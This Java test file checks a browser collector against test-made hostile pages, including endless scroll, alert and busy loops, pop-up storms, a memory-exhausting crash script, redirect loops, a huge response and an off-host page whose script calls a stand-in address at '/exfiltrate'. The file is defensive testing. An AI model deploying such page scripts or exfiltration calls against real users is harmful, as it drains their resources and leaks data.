package org.tracelab.collectors.browser;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.OutputStream;
import java.net.URI;
import java.time.Clock;
import java.time.Duration;
import java.util.List;
import java.util.function.Predicate;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.tracelab.collectors.http.HostAllowList;

/**
 * Pages written to hurt a collector, each of which must end within its budget with what it had and one line of
 * notes, and leave the browser able to go on. The site is made by the test; its content is fictitious.
 */
class HostilePagesTest {
    private static final Duration BUDGET = Duration.ofSeconds(4);
    private static TestSite site;
    private static Chromium chromium;

    @BeforeAll
    static void start() throws Exception {
        site = new TestSite()
                .page("/fine", "text/html", "<!doctype html><title>fine</title><p>An ordinary page (fictitious)</p>")
                .page("/endless-scroll", "text/html", """
                        <!doctype html><body><div id="feed"></div><script>
                        const feed = document.getElementById('feed');
                        function more() { for (let i = 0; i < 5; i++) { const d = document.createElement('div');
                          d.style.height = '400px'; d.textContent = 'ad ' + feed.children.length; feed.append(d); } }
                        more(); window.addEventListener('scroll', more);
                        </script></body>""")
                .page("/alerts", "text/html", "<!doctype html><p>alerts</p><script>for (;;) { alert('hi'); }</script>")
                .page("/busy", "text/html", "<!doctype html><p>busy</p><script>for (;;) { }</script>")
                .page("/popups", "text/html", """
                        <!doctype html><p>pop-ups</p><script>
                        for (let i = 0; i < 200; i++) { window.open('/fine?' + i, '_blank'); }
                        </script>""")
                .page("/off-host", "text/html", """
                        <!doctype html><p>reaching out</p><img src="http://tracker.example.invalid/pixel.gif">
                        <script>fetch('http://192.0.2.7/exfiltrate').catch(() => {});
                        fetch('/fine');</script>""")
                .handle("/huge", x -> {
                    // 500 MB of zeros, chunked: no Content-Length to judge it by before it comes
                    x.getResponseHeaders().set("Content-Type", "application/octet-stream");
                    x.sendResponseHeaders(200, 0);
                    byte[] chunk = new byte[1 << 20];
                    try (OutputStream out = x.getResponseBody()) {
                        for (int i = 0; i < 500; i++) {
                            out.write(chunk);
                        }
                    } catch (IOException closedByBrowser) {
                        // the browser went away: fine
                    }
                })
                .page("/fetches-huge", "text/html", "<!doctype html><p>big</p><script>fetch('/huge')</script>")
                .handle("/loop-a", x -> redirect(x, "/loop-b"))
                .handle("/loop-b", x -> redirect(x, "/loop-a"))
                .page("/crash", "text/html", """
                        <!doctype html><p>about to crash</p><script>
                        setTimeout(() => { const a = []; for (;;) { a.push(new Array(1e6).fill(a.length)); } }, 100);
                        </script>""")
                .handle("/never-ends", x -> {
                    x.getResponseHeaders().set("Content-Type", "text/html");
                    x.sendResponseHeaders(200, 0);
                    try (OutputStream out = x.getResponseBody()) {
                        out.write("<!doctype html><p>still loading (fictitious)</p>".getBytes());
                        out.flush();
                        for (int i = 0; i < 600; i++) {
                            Thread.sleep(100);
                            out.write(' ');
                            out.flush();
                        }
                    } catch (IOException | InterruptedException gone) {
                        // the browser went away: fine
                    }
                });
        chromium = Chromium.launch(BrowserInstall.find(System.getenv()), new BrowserSettings(800, 600, BUDGET,
                1 << 20, HostAllowList.parse(List.of("127.0.0.1")), false), Clock.systemUTC());
    }

    private static void redirect(com.sun.net.httpserver.HttpExchange x, String to) throws IOException {
        x.getResponseHeaders().set("Location", to);
        x.sendResponseHeaders(302, -1);
        x.close();
    }

    /** Closing the run ends the driver and every browser process, those of killed browsers included. */
    @AfterAll
    static void stop() throws InterruptedException {
        if (chromium != null) {
            chromium.close();
        }
        site.close();
        long until = System.nanoTime() + java.util.concurrent.TimeUnit.SECONDS.toNanos(10);
        List<String> left;
        do {
            Thread.sleep(100);
            left = ProcessHandle.current().descendants().filter(ProcessHandle::isAlive)
                    .map(h -> h.info().command().orElse("?")).filter(c -> c.contains("chromium") || c.contains("node"))
                    .toList();
        } while (!left.isEmpty() && System.nanoTime() < until);
        assertTrue(left.isEmpty(), "left running: " + left);
    }

    private static RenderedPage visit(String path) {
        long t0 = System.nanoTime();
        try (PageVisit v = chromium.visit(URI.create(site.url(path)))) {
            RenderedPage p = v.result();
            System.out.printf("%s: %d ms, notes %s, failure %s%n", path, (System.nanoTime() - t0) / 1_000_000,
                    p.notes(), p.failure());
            return p;
        }
    }

    private static boolean noted(RenderedPage p, Predicate<String> line) {
        return p.notes().stream().anyMatch(line);
    }

    /** After each hostile page, an ordinary one still renders in the same run. */
    private static void stillWorks() {
        RenderedPage p = visit("/fine");
        assertNull(p.failure());
        assertTrue(p.dom().contains("An ordinary page"), p.dom());
    }

    @Test
    void anEndlessScrollStopsAfterItsScreens() {
        RenderedPage p = visit("/endless-scroll");
        assertTrue(noted(p, n -> n.contains("scrolling stopped")), p.notes().toString());
        assertNotNull(p.screenshot());
        stillWorks();
    }

    @Test
    void anAlertLoopIsStoppedAtTheBudgetAndThePageRead() {
        RenderedPage p = visit("/alerts");
        assertTrue(noted(p, n -> n.contains("budget")), p.notes().toString());
        assertTrue(p.dom() != null && p.dom().contains("alerts"), String.valueOf(p.dom()));
        assertNotNull(p.screenshot());
        stillWorks();
    }

    @Test
    void aScriptThatNeverYieldsIsStoppedAtTheBudgetAndThePageRead() {
        RenderedPage p = visit("/busy");
        assertTrue(noted(p, n -> n.contains("budget")), p.notes().toString());
        assertTrue(p.dom() != null && p.dom().contains("busy"), String.valueOf(p.dom()));
        stillWorks();
    }

    @Test
    void aStormOfPopUpsOpensNothing() {
        RenderedPage p = visit("/popups");
        assertNull(p.failure());
        assertTrue(p.dom().contains("pop-ups"));
        stillWorks();
    }

    @Test
    void requestsOutsideTheAllowListAreBlockedAndNamed() {
        RenderedPage p = visit("/off-host");
        assertTrue(noted(p, n -> n.contains("tracker.example.invalid") && n.contains("192.0.2.7")),
                p.notes().toString());
        assertTrue(p.resources().stream().allMatch(x -> "127.0.0.1".equals(x.url().getHost())));
        stillWorks();
    }

    @Test
    void aHugeResponseIsCutToTheLimit() {
        RenderedPage p = visit("/fetches-huge");
        BrowserExchange huge = p.resources().stream().filter(x -> x.url().getPath().equals("/huge")).findFirst()
                .orElse(null);
        if (huge != null) {
            BrowserExchange.Read r = huge.body().read(1 << 20);
            assertTrue(r.bytes().length <= 1 << 20);
            assertTrue(r.truncated(), r.why());
        }
        stillWorks();
    }

    @Test
    void aRedirectLoopFailsInOneLine() {
        RenderedPage p = visit("/loop-a");
        assertNotNull(p.failure());
        assertTrue(p.failure().contains("ERR_TOO_MANY_REDIRECTS"), p.failure());
        stillWorks();
    }

    @Test
    void aCrashedRendererKeepsWhatItLoaded() {
        RenderedPage p = visit("/crash");
        assertTrue(noted(p, n -> n.contains("crash")), p.notes().toString());
        assertEquals(200, p.document().orElseThrow().status());
        stillWorks();
    }

    @Test
    void aPageThatNeverFinishesLoadingIsCutAtItsBudget() {
        RenderedPage p = visit("/never-ends");
        assertTrue(noted(p, n -> n.contains("budget")), p.notes().toString());
        assertTrue(p.dom() != null && p.dom().contains("still loading"), String.valueOf(p.dom()));
        stillWorks();
    }
}
